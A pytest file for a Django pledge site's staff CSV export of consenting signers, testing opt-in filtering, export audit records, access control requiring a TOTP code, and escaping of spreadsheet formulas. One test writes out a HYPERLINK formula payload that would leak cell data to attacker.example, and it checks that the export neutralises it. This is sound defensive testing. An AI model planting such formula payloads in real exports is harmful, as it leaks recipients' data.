import csv
import io

import pytest
from django.contrib.auth.models import User

from api.models import StaffExportRecord
from tests.builders import a_confirmed_signature, a_live_pledge, signed_in_as_staff

pytestmark = pytest.mark.django_db


def test_staff_download_every_consenting_signer_of_a_campaign_and_it_is_recorded(admin_client):
    pledge = a_live_pledge()
    other_campus = a_live_pledge(campaign=pledge.campaign)
    a_confirmed_signature(pledge=pledge, email="yes@example.org", contact_opt_in=True)
    a_confirmed_signature(pledge=other_campus, email="also@example.org", contact_opt_in=True)
    a_confirmed_signature(pledge=pledge, email="no@example.org", contact_opt_in=False)
    a_confirmed_signature(email="elsewhere@example.org", contact_opt_in=True)

    response = admin_client.get(f"/staff/exports/campaigns/{pledge.campaign.slug}/signers.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert sorted(row["email"] for row in rows) == ["also@example.org", "yes@example.org"]
    assert {row["pledge"] for row in rows} == {pledge.slug, other_campus.slug}
    record = StaffExportRecord.objects.get()
    assert (record.user.username, record.campaign, record.row_count) == (
        "admin",
        pledge.campaign,
        2,
    )


def test_the_export_is_for_staff_with_permission_only(client):
    pledge = a_live_pledge()
    url = f"/staff/exports/campaigns/{pledge.campaign.slug}/signers.csv"
    helper = User.objects.create_user("helper", password="pw-123456789", is_staff=True)

    anonymous = client.get(url)
    client.login(username="helper", password="pw-123456789")
    password_only = client.get(url)
    signed_in_as_staff(client, helper)
    without_permission = client.get(url)

    assert anonymous.status_code == 302 and "/admin/login/" in anonymous["Location"]
    # A password without the TOTP code is not enough, as in the admin.
    assert password_only.status_code == 302 and "/admin/login/" in password_only["Location"]
    assert without_permission.status_code == 403
    assert not StaffExportRecord.objects.exists()


def test_an_institution_name_a_spreadsheet_would_run_reaches_staff_as_text(admin_client):
    from tests.builders import an_institution

    attack = '=HYPERLINK("http://attacker.example/?"&A2,"Click")'
    pledge = a_live_pledge(institution=an_institution(name=attack))
    a_confirmed_signature(pledge=pledge, name="-Eve +Mallory", display="full", contact_opt_in=True)

    response = admin_client.get(f"/staff/exports/campaigns/{pledge.campaign.slug}/signers.csv")
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert row["institution"] == "'" + attack
    assert row["name"] == "'-Eve +Mallory"
